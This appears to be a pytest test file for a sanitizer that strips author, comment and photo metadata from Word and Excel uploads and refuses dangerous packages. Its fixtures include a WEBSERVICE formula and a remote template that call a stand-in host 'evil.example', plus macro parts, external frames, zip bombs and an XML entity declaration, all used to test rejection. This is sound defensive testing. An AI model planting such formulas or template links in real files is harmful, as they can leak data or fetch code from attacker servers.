"""A Word or Excel file that Office wrote stays readable; whoever wrote it, where and with what photo is gone."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import docx
import openpyxl
import pytest
from PIL import Image
from PIL.ExifTags import Base

from petitions.files import office_cleaning
from petitions.files.office_cleaning import OtherKind, TooLarge, clean
from petitions.files.office_parts import EXCEL, WORD, Active, Malformed

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _photo() -> io.BytesIO:
    exif = Image.Exif()
    exif[Base.Model] = "ZHANG-WEI-PHONE"
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "orange").save(out, "JPEG", exif=exif)
    return io.BytesIO(out.getvalue())


def a_document() -> bytes:
    made = docx.Document()
    made.core_properties.author = "张伟"
    made.core_properties.comments = "初稿"
    made.add_heading("夜班津贴的事", 1)
    made.add_paragraph("零点班三个月没有发。")
    made.add_table(2, 2).cell(0, 0).text = "九月"
    made.add_picture(_photo())
    made.sections[0].header.paragraphs[0].text = "三车间"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def a_workbook() -> bytes:
    made = openpyxl.Workbook()
    made.properties.creator = "张伟"
    sheet = made.active
    sheet.title = "考勤"
    sheet.append(["日期", "班次"])
    sheet.append(["11-24", 15])
    sheet["B2"].comment = openpyxl.comments.Comment("班长说不算", "张伟")
    sheet["A3"] = '=WEBSERVICE("http://evil.example")'
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def changed(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        parts = {each: package.read(each) for each in package.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return out.getvalue()


def _everything(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert {each.date_time for each in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        return b"".join(each.encode() + package.read(each) for each in package.namelist())


def test_a_document_keeps_its_words_table_header_and_picture() -> None:
    media_type, kept = clean(a_document())
    assert media_type == WORD
    opened = docx.Document(io.BytesIO(kept))
    assert "零点班三个月没有发。" in [each.text for each in opened.paragraphs]
    assert opened.tables[0].cell(0, 0).text == "九月"
    assert opened.sections[0].header.paragraphs[0].text == "三车间"
    assert len(opened.inline_shapes) == 1
    everything = _everything(kept)
    for trace in ("张伟", "初稿", "ZHANG-WEI-PHONE", "python-docx", "docProps"):
        assert trace.encode() not in everything


def test_a_workbook_keeps_its_values_and_loses_formulas_and_comments() -> None:
    media_type, kept = clean(a_workbook())
    assert media_type == EXCEL
    sheet = openpyxl.load_workbook(io.BytesIO(kept))["考勤"]
    assert [cell.value for cell in sheet[2]] == ["11-24", 15]
    assert sheet["B2"].comment is None
    everything = _everything(kept)
    for trace in ("张伟", "班长说不算", "evil.example", "openpyxl"):
        assert trace.encode() not in everything


def test_cleaning_what_was_cleaned_changes_nothing() -> None:
    for made in (a_document(), a_workbook()):
        _type, kept = clean(made)
        assert clean(kept) == (_type, kept)


def test_a_link_that_has_to_be_pressed_becomes_its_words() -> None:
    def link(parts: dict[str, bytes]) -> None:
        rels = "word/_rels/document.xml.rels"
        line = (
            f'<Relationship Id="rId99" Type="{RELATION}/hyperlink" Target="http://evil.example" TargetMode="External"/>'
        )
        parts[rels] = parts[rels].replace(b"</Relationships>", line.encode() + b"</Relationships>")

    _type, kept = clean(changed(a_document(), link))
    assert b"evil.example" not in _everything(kept)


def _adding(name: str, content: bytes = b"x") -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[name] = content

    return change


def _pointing(kind: str, target: str = "http://evil.example/x") -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        rels = "word/_rels/document.xml.rels"
        line = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}" TargetMode="External"/>'
        parts[rels] = parts[rels].replace(b"</Relationships>", line.encode() + b"</Relationships>")

    return change


def _macros(parts: dict[str, bytes]) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


@pytest.mark.parametrize(
    "change",
    [
        _macros,
        _adding("word/vbaProject.bin"),
        _adding("word/embeddings/oleObject1.bin"),
        _adding("word/activeX/activeX1.xml"),
        _pointing("image"),
        _pointing("oleObject"),
        _pointing("frame"),
        _pointing("aFChunk", "evil.html"),
    ],
    ids=[
        "macros",
        "a macro project",
        "an embedded file",
        "a control",
        "a picture elsewhere",
        "an object elsewhere",
        "a frame",
        "a page inside",
    ],
)
def test_what_runs_hides_or_reaches_out_is_refused(change: Callable[[dict[str, bytes]], None]) -> None:
    with pytest.raises(Active):
        clean(changed(a_document(), change))


def test_a_remote_template_is_left_behind() -> None:
    def template(parts: dict[str, bytes]) -> None:
        line = f'<Relationship Id="rId1" Type="{RELATION}/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
        parts["word/_rels/settings.xml.rels"] = (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{line}</Relationships>'
        ).encode()

    _type, kept = clean(changed(a_document(), template))
    assert b"evil.example" not in _everything(kept)


def test_a_zip_that_unpacks_to_a_flood_is_refused_before_it_does() -> None:
    with pytest.raises(TooLarge):
        clean(changed(a_document(), _adding("word/media/image9.png", bytes(office_cleaning.PART_BYTES + 1))))
    with pytest.raises(TooLarge):
        clean(changed(a_document(), lambda parts: parts.update({f"word/p{n}.xml": b"" for n in range(2100)})))


def test_a_zip_that_lies_about_its_sizes_is_refused() -> None:
    packed = changed(a_document(), _adding("word/media/image9.png", bytes(1_000_000)))
    at = packed.rindex(b"word/media/image9.png") - 46
    lying = packed[: at + 24] + struct.pack("<I", 10) + packed[at + 28 :]
    with pytest.raises((Malformed, zipfile.BadZipFile)):
        clean(lying)


def test_two_parts_of_one_name_are_refused() -> None:
    with pytest.raises(Malformed):
        clean(changed(a_document(), _adding("/word/document.xml", b"<other/>")))


def test_slides_templates_and_plain_zips_are_another_kind() -> None:
    def slides(parts: dict[str, bytes]) -> None:
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"wordprocessingml.document", b"presentationml.slides"
        )

    with pytest.raises(OtherKind):
        clean(changed(a_document(), slides))
    for content in (b"PK\x03\x04" + bytes(100), b""):
        with pytest.raises(Malformed):
            clean(content)


def test_entities_in_any_part_are_refused() -> None:
    def bomb(parts: dict[str, bytes]) -> None:
        parts["word/styles.xml"] = b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'

    with pytest.raises(Malformed):
        clean(changed(a_document(), bomb))
